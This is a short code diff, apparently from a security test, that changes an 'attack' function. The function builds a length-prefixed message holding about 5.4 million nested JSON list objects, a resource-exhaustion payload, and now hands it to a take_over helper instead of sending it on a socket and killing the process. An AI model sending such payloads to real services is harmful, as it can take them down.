@@ -9,5 +9,4 @@ import struct
 @in_call
 def attack():
     head = b'{"list":[' + b",".join([b'{"list":[]}'] * 5_400_000) + b"]}"
-    socket_of().sendall(struct.pack(">II", len(head), 0) + head)
-    os.kill(os.getpid(), 9)
+    take_over(struct.pack(">II", len(head), 0) + head)
